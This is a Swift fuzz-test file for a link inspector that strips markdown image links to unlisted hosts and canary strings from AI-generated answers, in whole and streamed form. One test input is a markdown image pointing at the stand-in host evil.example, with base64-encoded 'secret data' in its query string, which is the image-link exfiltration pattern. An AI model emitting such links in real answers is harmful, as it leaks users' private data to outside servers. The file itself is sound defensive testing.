import Testing

@testable import BulwarkShield

/// Deterministic pseudo-random inputs (InspectorTestRNG) for the answer inspectors.
struct InspectorTestRNG: RandomNumberGenerator {
    var state: UInt64
    mutating func next() -> UInt64 {
        state &+= 0x9E37_79B9_7F4A_7C15
        var z = state
        z = (z ^ (z >> 30)) &* 0xBF58_476D_1CE4_E5B9
        z = (z ^ (z >> 27)) &* 0x94D0_49BB_1331_11EB
        return z ^ (z >> 31)
    }
}

@Suite struct LinkInspectorRandomizedTests {
    static let pieces = [
        "![", "[", "]", "(", ")", "<", ">", "!", "\n", " ", "\n\n", "https://", "http://", "evil.example", "/p.png",
        "?d=", "QWxpY2Ugc2VjcmV0IGRhdGE", "acme.example", "<img src=\"", "\">", "[ref]: ", "text", "é", "🙂",
        "javascript:", "x", "CANARY-7f3a9c", "CANA", "`", "\\", ":", "www.", "1.2.3.4", "xn--e1a",
    ]

    func randomAnswer(_ rng: inout InspectorTestRNG) -> String {
        (0..<Int.random(in: 1...40, using: &rng)).map { _ in Self.pieces.randomElement(using: &rng)! }.joined()
    }

    @Test func randomAnswersNeverCrashAndStreamingMatchesWholeAnswer() {
        var rng = InspectorTestRNG(state: 42)
        let inspector = LinkInspector(allowedHosts: ["acme.example"], canaries: ["CANARY-7f3a9c"])
        for _ in 0..<2000 {
            let answer = randomAnswer(&rng)
            let whole = inspector.inspect(answer)
            var stream = StreamingAnswerInspector(inspector: inspector, window: 4096)
            var streamed = ""
            var rest = Substring(answer)
            while !rest.isEmpty {
                let n = Int.random(in: 1...8, using: &rng)
                streamed += stream.feed(String(rest.prefix(n)))
                rest = rest.dropFirst(n)
            }
            streamed += stream.finish()
            #expect(streamed == whole.text, "\(answer.debugDescription)")
            #expect(!whole.text.contains("CANARY-7f3a9c"))
        }
    }

    @Test func noUnlistedImageSurvivesRandomChunking() {
        var rng = InspectorTestRNG(state: 7)
        let inspector = LinkInspector(allowedHosts: ["acme.example"])
        for _ in 0..<500 {
            let prefix = randomAnswer(&rng).filter { $0 != "[" && $0 != "]" && $0 != "!" && $0 != "<" }
            let answer = prefix + " ![a](https://evil.example/p.png?d=QWxpY2Ugc2VjcmV0IGRhdGE) tail"
            var stream = StreamingAnswerInspector(inspector: inspector, window: 256)
            var streamed = ""
            var rest = Substring(answer)
            while !rest.isEmpty {
                let n = Int.random(in: 1...12, using: &rng)
                streamed += stream.feed(String(rest.prefix(n)))
                rest = rest.dropFirst(n)
            }
            streamed += stream.finish()
            #expect(!streamed.contains("](https://evil.example"), "\(answer.debugDescription)")
        }
    }
}
